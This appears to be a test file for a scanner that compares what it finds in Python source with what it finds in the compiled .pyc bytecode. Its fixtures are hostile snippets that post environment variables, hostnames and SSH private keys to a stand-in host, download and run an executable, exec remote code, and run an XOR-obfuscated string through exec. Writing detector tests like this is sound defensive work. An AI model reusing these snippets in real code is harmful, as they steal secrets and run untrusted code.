import { execFileSync } from 'node:child_process'
import { expect, it } from 'vitest'
import { usesOf } from '../../node/source-facts.test-support.ts'

const CODE: Readonly<Record<string, string>> = {
  'data into a request':
    'import os, json, urllib.request\nreq = urllib.request.Request("https://h.example/x", data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(req)\n',
  'functions and dictionaries':
    'import socket, getpass, requests\ndef send():\n    d = {"h": socket.gethostname(), "u": getpass.getuser()}\n    requests.post("https://h.example", json=d)\nsend()\n',
  'a context manager in a try':
    'import requests, subprocess, tempfile, os\ntry:\n    p = os.path.join(tempfile.gettempdir(), "a.exe")\n    with open(p, "wb") as f:\n        f.write(requests.get("https://h.example/a.exe").content)\n    subprocess.Popen([p])\nexcept Exception:\n    pass\n',
  'an alias of an import': 'from urllib.request import urlopen as u\nexec(u("https://h.example/a").read())\n',
  'classes, loops and branches':
    'import os, requests\nclass T:\n    def run(self, url):\n        for n in ("id_rsa", "id_ed25519"):\n            q = os.path.expanduser("~/.ssh/" + n)\n            if os.path.exists(q):\n                requests.post(url, files={"f": open(q, "rb").read()})\nT().run("https://h.example/u")\n',
  'a generator expression': 'x = "".join(chr(ord(c) ^ 7) for c in "njwhus\'ht<ht)~t~sbj/%ds%.")\nexec(x)\n',
}

/** Compiles, and runs nothing: the bytes of a `.pyc` of the Python that the tests use. */
function compiled(code: string): Buffer {
  const script =
    'import sys, marshal, importlib.util\nsys.stdout.write((importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(sys.stdin.read(), "m", "exec"))).hex())'
  return Buffer.from(execFileSync('python3', ['-I', '-c', script], { input: code }).toString(), 'hex')
}

it.each(Object.entries(CODE))('bytecode is followed as its source is: %s', async (_, code) => {
  const ofSource = await usesOf({ 'demo/__init__.py': code })
  expect(ofSource.length).toBeGreaterThan(0)
  expect(await usesOf({ 'demo/__init__.pyc': compiled(code) })).toEqual(ofSource)
})
